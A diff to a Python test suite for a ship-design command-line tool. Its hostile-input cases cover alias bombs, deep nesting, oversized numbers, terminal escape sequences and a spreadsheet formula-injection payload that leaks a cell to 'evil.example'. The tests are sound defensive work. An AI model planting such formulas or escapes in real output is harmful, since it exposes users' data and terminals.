@@ -82,23 +82,23 @@ def _xlsx_big_ignored_sheet(tmp: Path) -> bytes:
 # (id, files {name: text | bytes | builder(tmp)}, argv, expected exit code, stdin)
 CASES: list[tuple[str, dict, list[str], int, bytes | None]] = [
     ("hull-negative", {"d.yaml": _yaml("hull: -1\n" + WEAPON)}, ["rate", "d.yaml"], 0, None),
-    ("int-5000-digits", {"d.yaml": _yaml("hull: " + "9" * 5000 + "\n")}, ["rate", "d.yaml"], 2, None),
-    ("hull-4000-digits", {"d.yaml": _yaml("hull: " + "7" * 4000 + "\n" + WEAPON)}, ["rate", "d.yaml"], 2, None),
+    ("int-5000-digits", {"d.yaml": _yaml("hull: " + "9" * 5000 + "\n")}, ["rate", "d.yaml"], 1, None),
+    ("hull-4000-digits", {"d.yaml": _yaml("hull: " + "7" * 4000 + "\n" + WEAPON)}, ["rate", "d.yaml"], 1, None),
     ("dmg-400-digits", {"d.yaml": _yaml("hull: 4\nweapons:\n  - {name: Gun, range: 4-8-12, stats: 1x5+/1/"
-                                        + "9" * 400 + ", banks: [AB]}\n")}, ["rate", "d.yaml"], 2, None),
-    ("self-alias", {"d.yaml": _yaml("hull: 4\nnotes: &a [*a]\n")}, ["rate", "d.yaml"], 2, None),
+                                        + "9" * 400 + ", banks: [AB]}\n")}, ["rate", "d.yaml"], 1, None),
+    ("self-alias", {"d.yaml": _yaml("hull: 4\nnotes: &a [*a]\n")}, ["rate", "d.yaml"], 1, None),
     ("deep-nesting", {"d.yaml": _yaml("hull: 4\nnotes: " + "[" * 5000 + "]" * 5000 + "\n")},
-     ["rate", "d.yaml"], 2, None),
+     ["rate", "d.yaml"], 1, None),
     ("deep-nesting-json", {"d.json": '{"hull": 4, "notes": ' + "[" * 100000 + "]" * 100000 + "}"},
-     ["rate", "d.json"], 2, None),
-    ("alias-bomb", {"d.yaml": _yaml(_alias_bomb())}, ["rate", "d.yaml"], 2, None),
-    ("hull-1e8", {"d.yaml": _yaml("hull: 100000000\n")}, ["rate", "d.yaml"], 2, None),
+     ["rate", "d.json"], 1, None),
+    ("alias-bomb", {"d.yaml": _yaml(_alias_bomb())}, ["rate", "d.yaml"], 1, None),
+    ("hull-1e8", {"d.yaml": _yaml("hull: 100000000\n")}, ["rate", "d.yaml"], 1, None),
     ("marines-1e10", {"d.yaml": _yaml("hull: 4\nsystems: [{name: Marines, qty: 10000000000}]\n")},
-     ["rate", "d.yaml"], 2, None),
+     ["rate", "d.yaml"], 1, None),
     ("bank-1e10", {"d.yaml": _yaml("hull: 4\nweapons:\n  - {name: Gun, range: 4-8-12, stats: 1x5+/1/1, "
-                                   "banks: [10000000000AB]}\n")}, ["ssd", "d.yaml", "-o", "x.pdf"], 2, None),
-    ("screens-1e12", {"d.yaml": _yaml("hull: 4\nscreens: 1000000000000\n")}, ["rate", "d.yaml"], 2, None),
-    ("xlsx-hull-1e18", {"d.xlsx": _xlsx_hull}, ["rate", "d.xlsx"], 2, None),
+                                   "banks: [10000000000AB]}\n")}, ["rate", "d.yaml"], 1, None),
+    ("screens-1e12", {"d.yaml": _yaml("hull: 4\nscreens: 1000000000000\n")}, ["rate", "d.yaml"], 1, None),
+    ("xlsx-hull-1e18", {"d.xlsx": _xlsx_hull}, ["rate", "d.xlsx"], 1, None),
     ("xlsx-80MB-ignored-sheet", {"d.xlsx": _xlsx_big_ignored_sheet}, ["rate", "d.xlsx"], 0, None),
     ("ae-marines-1e12", {"in/a.txt": AE_GOOD.replace("Marines (14)", "Marines (1000000000000)")},
      ["convert", "--from", "admiralty", "in", "-o", "out"], 1, None),
@@ -107,18 +107,28 @@ CASES: list[tuple[str, dict, list[str], int, bytes | None]] = [
     ("nova-80KB-class-line", {"in/n.txt": "NAME:\n" + "a" * 80_000 + "-class\n"},
      ["convert", "--from", "nova", "in", "-o", "out"], 1, None),
     ("ae-sonic-slash", {"in/a.txt": AE_GOOD.replace("Sonic Cannon", "Sonic // Cannon"), "in/b.txt": AE_GOOD},
-     ["convert", "--from", "admiralty", "in", "-o", "out"], None, None),
+     ["convert", "--from", "admiralty", "in", "-o", "out"], 1, None),
+    ("collision-stems", {"d1/a.txt": AE_GOOD, "d1/a-2.txt": AE_GOOD, "d2/a.txt": AE_GOOD},
+     ["convert", "--from", "admiralty", "d1/a.txt", "d1/a-2.txt", "d2/a.txt", "-o", "out", "--force"], 0, None),
+    ("collision-report", {"dumbo.txt": AE_GOOD}, ["convert", "--from", "admiralty", "dumbo.txt", "-o", "out",
+                                                  "--report", "dumbo.drake", "--force"], 2, None),
+    ("collision-battle-log", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--log", "m.yaml", "--force",
+                                                "--runs", "1"], 2, None),
+    ("collision-ssd-html", {"m.yaml": GOOD}, ["ssd", "m.yaml", "-o", "x.pdf", "--html", "x.pdf", "--force"], 2, None),
+    ("collision-convert-dir", {"a/x.yaml": GOOD, "b/x.yaml": GOOD}, ["convert", "a", "b", "-o", "out/", "--to",
+                                                                     "json", "--force"], 2, None),
+    ("long-output-name", {"m.yaml": GOOD}, ["convert", "m.yaml", "-o", "n" * 250 + ".json"], 0, None),
     ("battle-crowded-board", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--count-a", "50", "--count-b",
-                                                "50", "--board", "8x8", "--runs", "1"], None, None),
+                                                "50", "--board", "8x8", "--runs", "1"], 2, None),
     ("battle-huge-board", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--board", "1000000x1000000"], 2, None),
     ("battle-1e9-runs", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--runs", "1000000000"], 2, None),
     ("battle-1000-jobs", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--jobs", "1000"], 2, None),
     ("battle-10000-ships", {"m.yaml": GOOD}, ["battle", "m.yaml", "m.yaml", "--count-a", "10000"], 2, None),
-    ("stdin-invalid-utf8", {}, ["rate", "-"], 2, b"class: \xff\xfe\nhull: 4\n"),
-    ("yaml-control-char", {"d.yaml": "class: \x1b[31mred\x07\nhull: 4\n"}, ["rate", "d.yaml"], 2, None),
-    ("yaml-10MB-line", {"d.yaml": "class: [" + "x" * 10_000_000 + "\n"}, ["rate", "d.yaml"], 2, None),
+    ("stdin-invalid-utf8", {}, ["rate", "-"], 1, b"class: \xff\xfe\nhull: 4\n"),
+    ("yaml-control-char", {"d.yaml": "class: \x1b[31mred\x07\nhull: 4\n"}, ["rate", "d.yaml"], 1, None),
+    ("yaml-10MB-line", {"d.yaml": "class: [" + "x" * 10_000_000 + "\n"}, ["rate", "d.yaml"], 1, None),
     ("xlsx-bad-xml", {"d.xlsx": lambda tmp: _zip({"[Content_Types].xml": "<x", "xl/workbook.xml": "<"})},
-     ["rate", "d.xlsx"], 2, None),
+     ["rate", "d.xlsx"], 1, None),
     ("terminal-escape-name", {"d.yaml": "class: \"\\e]0;pwned\\a\\e[2J\"\nhull: 4\n"}, ["rate", "d.yaml"], 0, None),
 ]
 
@@ -154,3 +164,119 @@ def test_hostile_case(tmp_path: Path, files: dict, argv: list[str], code: int | 
         assert run.code in (0, 1, 2), (run.code, run.stderr[-2000:])
     if code == 2:
         assert len(run.err_lines) == 1 and run.err_lines[0].startswith("drydock: error: "), run.err_lines
+
+
+def test_hostile_case_sizes_are_checked_for_every_case() -> None:
+    assert len(CASES) >= 30 and len({c[0] for c in CASES}) == len(CASES)
+
+
+def test_endless_input_is_cut_at_the_limit(tmp_path: Path) -> None:
+    (tmp_path / "z.yaml").symlink_to("/dev/zero")
+    run = run_cli(["rate", "z.yaml"], cwd=tmp_path)
+    assert run.code == 1 and run.clean() and run.seconds < 30
+    assert "past drydock's limit" in run.stderr
+
+
+def test_stdin_is_decoded_like_a_file(tmp_path: Path) -> None:
+    bad = b"class: \xff\nhull: 4\n"
+    (tmp_path / "bad.yaml").write_bytes(bad)
+    from_file = run_cli(["rate", "bad.yaml"], cwd=tmp_path)
+    from_stdin = run_cli(["rate", "-"], cwd=tmp_path, stdin=bad)
+    assert from_file.code == from_stdin.code == 1
+    assert from_file.stderr.replace("bad.yaml", "X") == from_stdin.stderr.replace("<stdin>", "X")
+    assert "not a UTF-8 text file" in from_stdin.stderr
+
+
+def test_nova_title_formula_is_inert_in_the_csv_report(tmp_path: Path) -> None:
+    title = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
+    _make(tmp_path, {"in/n.txt": NOVA_GOOD.replace("Imperial MAJESTIC", title + " MAJESTIC")})
+    run = run_cli(["convert", "--from", "nova", "in", "-o", "out", "--report", "r.csv"], cwd=tmp_path)
+    assert run.clean(), run.stderr
+    import csv
+    rows = list(csv.DictReader((tmp_path / "out/r.csv").open(encoding="utf-8")))
+    assert rows, (tmp_path / "out/r.csv").read_text()
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+def test_terminal_escapes_in_names_are_shown_not_sent(tmp_path: Path) -> None:
+    _make(tmp_path, {"d.yaml": 'class: "\\e]0;pwned\\a\\e[2J"\nhull: 4\n'})
+    run = run_cli(["rate", "d.yaml"], cwd=tmp_path)
+    assert run.code == 0 and "\x1b" not in run.stdout and "\x07" not in run.stdout
+    assert "\\x1b]0;pwned" in run.stdout
+
+
+def test_closed_stdout_pipe_is_a_quiet_success(tmp_path: Path) -> None:
+    import subprocess
+    import sys
+
+    (tmp_path / "many.yaml").write_text("\n---\n".join([GOOD] * 60), encoding="utf-8")
+    proc = subprocess.Popen([sys.executable, "-m", "drydock", "rate", "many.yaml"], cwd=tmp_path,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert proc.stdout is not None
+    proc.stdout.readline()
+    proc.stdout.close()
+    err = proc.stderr.read() if proc.stderr else b""
+    assert proc.wait(timeout=60) == 0
+    assert err == b""
+
+
+def test_ctrl_c_during_a_parallel_battle_is_one_line_and_exit_130(tmp_path: Path) -> None:
+    import os
+    import signal
+    import subprocess
+    import sys
+    import time
+
+    (tmp_path / "m.yaml").write_text(GOOD, encoding="utf-8")
+    proc = subprocess.Popen([sys.executable, "-m", "drydock", "battle", "m.yaml", "m.yaml", "--jobs", "2",
+                             "--runs", "200000", "--json"], cwd=tmp_path, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, start_new_session=True)
+    time.sleep(3)
+    os.killpg(proc.pid, signal.SIGINT)  # the terminal sends SIGINT to the whole process group
+    _out, err = proc.communicate(timeout=60)
+    assert proc.returncode == 130
+    assert err.decode().strip().splitlines() == ["drydock: interrupted"]
+
+
+def test_internal_error_is_one_line_exit_3_and_traceback_only_with_debug(tmp_path: Path, monkeypatch) -> None:
+    from click.testing import CliRunner
+
+    import drydock.validation
+    from drydock.cli.main import _DEBUG, cli
+
+    def boom(*args, **kwargs):  # type: ignore[no-untyped-def]
+        raise RuntimeError("simulated bug")
+
+    (tmp_path / "m.yaml").write_text(GOOD, encoding="utf-8")
+    monkeypatch.setattr(drydock.validation, "rate", boom)
+    monkeypatch.setitem(_DEBUG, "on", False)
+    result = CliRunner().invoke(cli, ["rate", str(tmp_path / "m.yaml")])
+    assert result.exit_code == 3
+    lines = result.output.strip().splitlines()
+    assert lines == ["drydock: internal error, please report (rerun with --debug for the traceback): "
+                     "RuntimeError: simulated bug"]
+    result = CliRunner().invoke(cli, ["--debug", "rate", str(tmp_path / "m.yaml")])
+    assert result.exit_code == 3 and "Traceback" in result.output
+
+
+def test_public_api_wrong_types_and_values() -> None:
+    import drydock
+    from drydock.formats.native import from_yaml
+
+    for bad in (None, "hull: 4", 3, {"hull": 4}):
+        with pytest.raises(TypeError, match="expected a drydock.Design"):
+            drydock.rate(bad)  # type: ignore[arg-type]
+        with pytest.raises(TypeError, match="expected a drydock.Design"):
+            drydock.validate(bad)  # type: ignore[arg-type]
+    with pytest.raises(TypeError, match="rules must be"):
+        drydock.rate(from_yaml("class: X\nhull: 4\n")[0], rules="unity")  # type: ignore[arg-type]
+    with pytest.raises(drydock.DrydockError, match="Design.hull"):
+        drydock.Design(hull="four")
+    with pytest.raises(drydock.DrydockError, match="Battery.name"):
+        drydock.Design(hull=4, weapons=[{"name": 3}])
+    with pytest.raises(drydock.DrydockError, match="past drydock's limit"):
+        drydock.rate(drydock.Design(hull=10**9))
+    with pytest.raises(TypeError):
+        from_yaml(b"hull: 4")  # type: ignore[arg-type]
